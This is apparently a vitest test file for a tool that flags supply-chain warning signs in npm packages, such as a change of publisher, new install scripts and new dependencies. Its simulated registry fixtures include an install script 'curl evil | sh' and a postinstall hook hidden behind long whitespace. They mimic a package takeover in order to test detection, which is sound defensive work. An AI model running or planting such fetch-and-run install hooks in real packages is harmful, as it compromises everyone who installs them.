import { describe, expect, it } from 'vitest';
import { callTool } from '../../support/directory.ts';
import {
  npmPackument,
  npmVersion,
  type Stored,
  startPackageRegistry,
} from '../../support/endpoints/package-registry.ts';
import { packaged } from '../../support/entries.ts';
import { opened, openedDirectory } from '../../support/opened.ts';

const by = (name: string) => ({ _npmUser: { name, email: `${name}@example.org` } });
const content: Record<string, Stored> = {
  // An older branch got a release too, and the account that took the package over tried twice.
  '/taken': npmPackument(
    'taken',
    {
      '1.0.0': { ...by('alice'), dependencies: { zod: '^4.0.0' } },
      '0.9.9': { ...by('mallory'), dependencies: { 'plain-crypto': '*' } },
      '1.0.1': { ...by('mallory'), dependencies: { 'plain-crypto': '*' } },
      '1.0.2-rc.1': { ...by('mallory'), dependencies: { 'plain-crypto': '*' } },
      '1.0.2': {
        ...by('mallory'),
        scripts: { postinstall: `${' '.repeat(1200)}node setup.js`, test: 'x' },
        dependencies: { zod: '^4.0.0', 'plain-crypto': '*' },
      },
    },
    {
      '1.0.0': '2026-01-01T00:00:00.000Z',
      '0.9.9': '2026-01-31T20:00:00.000Z',
      '1.0.1': '2026-01-31T21:00:00.000Z',
      '1.0.2-rc.1': '2026-01-01T22:00:00.000Z',
      '1.0.2': '2026-02-01T00:00:00.000Z',
    },
  ),
  '/built': npmPackument(
    'built',
    {
      '1.0.0': { ...by('alice'), scripts: { install: 'node-gyp rebuild' } },
      '1.1.0': { ...by('GitHub Actions'), scripts: { install: 'node-gyp rebuild' } },
    },
    { '1.0.0': '2026-01-01T00:00:00.000Z', '1.1.0': '2026-02-01T00:00:00.000Z' },
  ),
  '/turns': npmPackument(
    'turns',
    { '1.0.0': by('bob'), '2.0.0': by('alice'), '3.0.0': by('bob') },
    {
      '1.0.0': '2026-01-01T00:00:00.000Z',
      '2.0.0': '2026-02-01T00:00:00.000Z',
      '3.0.0': '2026-03-01T00:00:00.000Z',
    },
  ),
  '/rewritten': npmPackument(
    'rewritten',
    {
      '1.0.0': { scripts: { install: 'node build.js' } },
      '1.1.0': { scripts: { install: 'curl evil | sh' } },
    },
    { '1.0.0': '2026-01-01T00:00:00.000Z', '1.1.0': '2026-02-01T00:00:00.000Z' },
  ),
  // The version in between is too young to be compared with, and like the one that is.
  '/between': npmPackument(
    'between',
    {
      '1.0.0': by('alice'),
      '1.1.0': by('alice'),
      '1.2.0': { ...by('zed'), scripts: { postinstall: 'node setup.js' } },
    },
    {
      '1.0.0': '2026-01-01T00:00:00.000Z',
      '1.1.0': '2026-01-28T00:00:00.000Z',
      '1.2.0': '2026-02-01T00:00:00.000Z',
    },
  ),
  '/undated': npmPackument('undated', { '1.0.0': by('alice'), '1.1.0': by('alice') }, {}),
  '/first': npmPackument(
    'first',
    { '1.0.0': { scripts: { postinstall: 7 } } },
    { '1.0.0': '2026-01-01T00:00:00.000Z' },
  ),
  '/large': { status: 200, text: `{"name":"large","readme":"${'x'.repeat(2_200_000)}"}` },
  '/large/4.0.0': npmVersion('large', '4.0.0', { ...by('alice'), scripts: { preinstall: 'x' } }),
};

const onNpm = (identifier: string, version: string) =>
  packaged(`com.example/${identifier}`, 'npm', identifier, version);
const npm = await opened(startPackageRegistry(() => content));

const directory = await openedDirectory({
  entries: [
    onNpm('taken', '1.0.2'),
    onNpm('turns', '3.0.0'),
    onNpm('rewritten', '1.1.0'),
    onNpm('between', '1.2.0'),
    onNpm('undated', '1.1.0'),
    onNpm('built', '1.1.0'),
    onNpm('first', '1.0.0'),
    onNpm('again', '2.0.0'),
    onNpm('large', '4.0.0'),
    onNpm('free', '1.0.0'),
  ],
  environment: { PACKAGE_REGISTRIES: JSON.stringify({ npm: npm.url }) },
});

const kinds = /^package\.(install_scripts|published_by|new_dependencies)$/;
async function observe(name: string) {
  const { observations } = await directory.observe(`com.example/${name}`);
  const found = observations.filter(({ kind }) => kinds.test(kind));
  return Object.fromEntries(
    found.map(({ kind, outcome, value, details }) => [kind, { outcome, value, details }]),
  );
}
const read = async (name: string) => (await directory.app.request(`/agents/com.example/${name}.md`)).text();

describe('the recorded version of an npm package, beside the one published before it', () => {
  it('is published by another account, runs a script and needs more: all of it stands out or is listed', async () => {
    expect(await observe('taken')).toEqual({
      'package.published_by': {
        outcome: 'seen',
        value: 'mallory',
        details: { version: '1.0.2', before: { version: '1.0.0', value: 'alice' } },
      },
      'package.install_scripts': {
        outcome: 'seen',
        value: { postinstall: 'node setup.js' },
        details: { version: '1.0.2', before: { version: '1.0.1', value: {} } },
      },
      'package.new_dependencies': {
        outcome: 'seen',
        value: { count: 1, names: ['plain-crypto'] },
        details: { version: '1.0.2', before: '1.0.0' },
      },
    });
    const text = await read('taken');
    expect(text).toMatch(
      /Version `1\.0\.2` of `npm:taken` was published by `mallory`, and an earlier version, `1\.0\.0`, by `alice` \(Dossier, \d{4}-\d\d-\d\d\)\./,
    );
    expect(text).toContain('Dependencies that an earlier version did not have: 1: `plain-crypto`');
    const day = directory.context.clock().toISOString().slice(0, 10);
    directory.wait(2 * 86_400);
    await observe('taken');
    const then = { handle: 'com.example/taken', as_of: day };
    const past = JSON.stringify(await callTool(directory, 'get_agent', then));
    expect(past).toContain(
      'Version `1.0.2` of `npm:taken` was published by `mallory`, and an earlier version, `1.0.0`, by `alice`.',
    );
    expect(past).toContain(
      'Version `1.0.2` of `npm:taken` names `postinstall` “node setup.js”, which npm runs at installation; an earlier version, `1.0.1`, names none',
    );
  });

  it('is published by a build for the first time, which does not stand out, with the script that it always had, which does', async () => {
    expect(await observe('built')).toMatchObject({
      'package.published_by': {
        value: 'GitHub Actions',
        details: { before: { version: '1.0.0', value: 'alice' } },
      },
      'package.install_scripts': { value: { install: 'node-gyp rebuild' }, details: { version: '1.1.0' } },
      'package.new_dependencies': { value: { count: 0, names: [] } },
    });
    const text = await read('built');
    expect(text).not.toContain('was published by');
    expect(text).toMatch(
      /Stands out: .*Version `1\.1\.0` of `npm:built` names `install` “node-gyp rebuild”, which npm runs at installation \(/,
    );
  });

  it('runs a script at installation: each door that shows the listing in one row says so', async () => {
    const said = /Version `1\.1\.0` of `npm:built` names `install` “node-gyp rebuild”/;
    const handles = ['npx built', 'npx first'];
    const rows = await callTool(directory, 'resolve_agents', { handles });
    expect(JSON.stringify(rows)).toMatch(said);
    const compared = await callTool(directory, 'compare_agents', { handles, criteria: ['has_endpoint'] });
    expect(JSON.stringify(compared)).toMatch(said);
  });

  it('is by an account that published an earlier one: no other one is named', async () => {
    expect((await observe('turns'))['package.published_by']).toEqual({
      outcome: 'seen',
      value: 'bob',
      details: { version: '3.0.0' },
    });
    expect(await read('turns')).not.toContain('was published by');
  });

  it('has a script of the same name with another text', async () => {
    await observe('rewritten');
    expect(await read('rewritten')).toContain(
      'Version `1.1.0` of `npm:rewritten` names `install` “curl evil \\| sh”, which npm runs at installation; an earlier version, `1.0.0`, has a different text for this script',
    );
  });

  it('names the newest earlier version that had what it no longer has', async () => {
    const before = { version: '1.1.0' };
    expect(await observe('between')).toMatchObject({
      'package.published_by': { details: { before: { ...before, value: 'alice' } } },
      'package.install_scripts': { details: { before: { ...before, value: {} } } },
    });
    const text = await read('between');
    expect(text).toContain('which npm runs at installation; an earlier version, `1.1.0`, names none');
    expect(text).toContain('was published by `zed`, and an earlier version, `1.1.0`, by `alice`');
    expect(text).toContain('`zed`; an earlier version, `1.1.0`: `alice`');
    const handle = 'npx between@1.1.0';
    const { version_asked } = await callTool<{ version_asked: string }>(directory, 'get_agent', { handle });
    expect(version_asked).toMatch(
      / Version `1\.1\.0` of `npm:between` names no script that npm runs at installation, was published by `alice` and has no provenance \(Dossier, [\d-]{10}\)\./,
    );
  });

  it('says what is not known if the registry dates no version', async () => {
    expect((await observe('undated'))['package.new_dependencies']).toMatchObject({ outcome: 'not_asked' });
    expect(await read('undated')).not.toContain('npm has no earlier release');
  });

  it('is the first one, and states no account', async () => {
    expect(await observe('first')).toMatchObject({
      'package.published_by': { outcome: 'nothing', value: null },
      'package.install_scripts': { outcome: 'seen', value: {}, details: { version: '1.0.0' } },
      'package.new_dependencies': { outcome: 'not_asked', value: null },
    });
    expect(await read('first')).toContain('npm has no earlier release to compare `1.0.0` with');
  });

  it('has no dependency that an earlier one lacks, once there is an earlier one: that is no change', async () => {
    const published = { '1.0.0': '2026-01-01T00:00:00.000Z', '2.0.0': '2026-02-01T00:00:00.000Z' };
    const version = { ...by('alice'), dependencies: { zod: '^4.0.0' } };
    content['/again'] = npmPackument('again', { '2.0.0': version }, published);
    await observe('again');
    directory.wait(86_400);
    content['/again'] = npmPackument('again', { '1.0.0': version, '2.0.0': version }, published);
    expect(await observe('again')).toMatchObject({ 'package.new_dependencies': { value: { count: 0 } } });
    const history = await callTool(directory, 'get_history', { handle: 'com.example/again', kind: 'code' });
    expect(JSON.stringify(history)).not.toContain('until');
  });

  it('is read alone if the document of the package is over 2 MiB', async () => {
    expect(await observe('large')).toMatchObject({
      'package.published_by': { outcome: 'seen', value: 'alice', details: { version: '4.0.0' } },
      'package.install_scripts': { outcome: 'seen', value: { preinstall: 'x' } },
      'package.new_dependencies': { outcome: 'not_asked' },
    });
  });

  it('is of a package that npm does not have, whose name others can register', async () => {
    await observe('free');
    expect(await read('free')).toContain(
      'npm has no package `free`; a name that is free can be registered by others',
    );
  });
});
